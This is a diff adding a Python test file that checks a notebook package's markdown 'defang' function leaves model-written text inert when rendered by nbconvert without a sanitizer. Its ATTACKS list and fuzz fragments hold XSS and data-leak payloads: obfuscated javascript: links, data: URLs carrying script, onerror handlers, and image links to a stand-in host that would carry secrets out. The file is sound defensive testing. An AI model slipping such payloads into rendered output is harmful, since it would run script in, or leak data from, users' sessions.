@@ -1,0 +1,126 @@
+"""The ``text/markdown`` nbstream writes from model text is inert wherever it is rendered.
+
+Checked with a real renderer: nbconvert's (mistune, what nbconvert and many viewers use),
+rendering *without* a sanitizer, as a trusted notebook may be rendered: no raw HTML, no
+link that is not http(s)/mailto, no image — and code stays exactly as written.
+"""
+
+from __future__ import annotations
+
+import re
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+from nbconvert.filters.markdown_mistune import markdown2html_mistune
+
+from nbstream._bundle import build
+from nbstream._chat_transcript import transcript_markdown
+from nbstream._response import Response
+from nbstream._safe_markdown import defang
+
+ATTACKS = [
+    "[x](javascript:alert(1))",
+    "[x]( javascript:alert(1) )",
+    "[x](<javascript:alert(1)>)",
+    "[x](JaVaScRiPt:alert(1))",
+    "[x](&#106;avascript:alert(1))",
+    "[x](data:text/html,<script>alert(1)</script>)",
+    "[x][r]\n\n[r]: javascript:alert(1)",
+    "![a](http://host/leak?data=secret)",
+    "![](http://host/leak)",
+    "![a][r]\n\n[r]: http://host/leak",
+    "[![a](http://host/i.png)](https://ok.org)",
+    '<img src="http://host/leak" onerror="alert(1)">',
+    "<script>alert(1)</script>",
+    "<a href='javascript:alert(1)'>x</a>",
+    "<javascript:alert(1)>",
+    "\\`[x](javascript:alert(1))`",
+    "1. x\n\n   ```\n[x](javascript:alert(1))\n   ```",
+    "  ```\n  code\n```\n[x](javascript:alert(1))",
+    "``` `x\n[x](javascript:alert(1))\n```",
+    "a `span\n\n[x](javascript:alert(1)) b`",
+]
+
+
+def html_of(markdown: str) -> str:
+    return str(markdown2html_mistune(markdown))
+
+
+def assert_inert(html: str) -> None:
+    for href in re.findall(r'<a [^>]*href="([^"]*)"', html):
+        assert re.match(r"(https?:|mailto:)", href, re.I), f"unsafe link {href!r} in {html!r}"
+    assert "<img" not in html and "<script" not in html and "<iframe" not in html, html
+    assert not re.search(r"<[a-z]+[^>]*\son[a-z]+=", html, re.I), html
+
+
+@pytest.mark.parametrize("attack", ATTACKS)
+def test_attacks_render_inert_without_a_sanitizer(attack: str) -> None:
+    assert_inert(html_of(defang(attack)))
+
+
+def test_each_attack_is_live_without_defang() -> None:
+    live = [
+        a for a in ATTACKS if re.search(r'href="javascript|<img|<script|href="data', html_of(a))
+    ]
+    assert len(live) >= 10  # the renderer used here really is unsafe on its own
+
+
+def test_what_stays_the_same() -> None:
+    text = "A [link](https://example.org) and `<b>` and\n\n```html\n<script>x()</script>\n```"
+    out = defang(text)
+    assert "[link](https://example.org)" in out
+    assert "`<b>`" in out and "<script>x()</script>" in out
+    assert defang("![chart](https://x.org/c.png)") == "🖼 [chart](https://x.org/c.png)"
+    assert defang("1 < 2 & 3") == "1 &lt; 2 &amp; 3"
+
+
+FRAGMENTS = st.sampled_from(
+    [
+        "[",
+        "]",
+        "(",
+        ")",
+        "!",
+        "<",
+        ">",
+        "`",
+        "```",
+        "\n",
+        "\n\n",
+        "   ",
+        "javascript:",
+        "http://h/x",
+        "x",
+        "img",
+        "script",
+        ":",
+        "&#106;",
+        "\\",
+        "*",
+        "- ",
+        "1. ",
+        "> ",
+    ]
+)
+
+
+@settings(max_examples=300, deadline=None)
+@given(st.lists(FRAGMENTS, max_size=30).map("".join))
+def test_any_mix_of_fragments_renders_inert(text: str) -> None:
+    assert_inert(html_of(defang(text)))
+
+
+def test_cell_answers_and_the_transcript_are_defanged() -> None:
+    evil = "Hi <img src=x onerror=alert(1)> [x](javascript:alert(1)) ![a](http://h/leak)"
+    data, _ = build(Response(text=evil, reasoning="<script>r()</script>", status="done", model="m"))
+    assert_inert(
+        html_of(
+            data["text/markdown"]
+            .replace("<details><summary>Reasoning</summary>", "")
+            .replace("</details>", "")
+            .split("<sub>")[0]
+        )
+    )
+    turns = [{"role": "user", "content": "q"}, {"role": "assistant", "content": evil}]
+    assert_inert(html_of(transcript_markdown("openai:m", turns)))
